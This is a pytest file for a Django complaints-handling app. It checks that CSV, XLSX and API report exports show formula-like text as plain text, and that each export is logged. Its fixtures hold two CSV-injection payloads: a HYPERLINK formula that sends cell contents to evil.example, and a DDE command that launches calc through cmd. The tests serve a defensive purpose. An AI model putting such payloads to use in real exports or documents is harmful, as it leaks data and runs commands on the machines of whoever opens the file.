"""Exports open safely in a spreadsheet, and every export is recorded."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client

from putright.accounts.models import AccessLog, Membership, Role, User
from putright.accounts.tokens import token_create
from putright.cases.services import Actor, case_receive
from putright.people.models import Person

#: A pack whose categories and service areas are free text, typed by whoever records a case.
FREE_TEXT_PACK = "south-liverpool-homes-2021"
LINK = '=HYPERLINK("http://evil.example/?x="&A4,"Click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = {"start": "2026-03-01", "end": "2026-03-31"}


@pytest.fixture
def landlord(organisation_on, handler, clock):
    clock(2026, 3, 20, 10)
    organisation = organisation_on(FREE_TEXT_PACK)
    Membership.objects.create(user=handler, organisation=organisation, role=Role.COMPLAINT_HANDLER)
    case_receive(
        organisation=organisation,
        kind="complaint",
        channel="phone",
        received_at=datetime.datetime(2026, 3, 2, 10, tzinfo=datetime.UTC),
        summary="The repair never happened",
        actor=Actor(handler),
        customer=Person.objects.create(organisation=organisation, name="Pat Resident"),
        category=LINK,
        service_area=COMMAND,
    )
    return organisation


@pytest.fixture
def board_member(landlord) -> User:
    user = User.objects.create_user("board", display_name="Bo Board")
    Membership.objects.create(user=user, organisation=landlord, role=Role.BOARD_MEMBER)
    return user


def _signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_a_csv_shows_text_that_looks_like_a_formula_as_text(landlord, board_member):
    for by, typed in (("category", LINK), ("service_area", COMMAND)):
        response = _signed_in(board_member).get(
            "/reports/performance/export.csv", {"organisation": landlord.slug, "by": by, **PERIOD}
        )
        assert response.status_code == 200, response.content[:300]
        labels = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
        assert f"'{typed}" in labels
        assert not any(label.startswith(("=", "+", "-", "@")) for label in labels)


def test_a_workbook_keeps_text_that_looks_like_a_formula_as_text(landlord, board_member):
    openpyxl = pytest.importorskip("openpyxl")
    response = _signed_in(board_member).get(
        "/reports/performance/export.xlsx",
        {"organisation": landlord.slug, "by": "category", **PERIOD},
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Figures"]
    cells = {cell.value: cell.data_type for cell in sheet["A"]}
    assert cells[LINK] == "s"  # shown exactly as typed, never run
    assert "f" not in cells.values()


def test_the_api_export_is_as_safe(landlord, board_member):
    _token, raw = token_create(user=board_member, name="reports")
    response = Client().get(
        "/api/v1/reports/performance",
        {"organisation": landlord.slug, "by": "service_area", "format": "csv", **PERIOD},
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert response.status_code == 200, response.content[:300]
    labels = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert f"'{COMMAND}" in labels


def test_every_export_is_recorded(landlord, board_member):
    _signed_in(board_member).get(
        "/reports/tsm/export.xlsx", {"organisation": landlord.slug, **PERIOD}
    )
    _token, raw = token_create(user=board_member, name="reports")
    Client().get(
        "/api/v1/reports/performance",
        {"organisation": landlord.slug, "by": "category", "format": "csv", **PERIOD},
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    Client().get(  # the figures as JSON are read, not exported: not recorded
        "/api/v1/reports/performance",
        {"organisation": landlord.slug, **PERIOD},
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    logged = [
        (entry.user, entry.action, entry.detail) for entry in AccessLog.objects.order_by("at", "pk")
    ]
    slug = landlord.slug
    assert logged == [
        (board_member, "exported a report", f"tsm-{slug}-2026-03-01-2026-03-31.xlsx"),
        (
            board_member,
            "exported a report",
            f"performance-{slug}-2026-03-01-2026-03-31.csv by category",
        ),
    ]
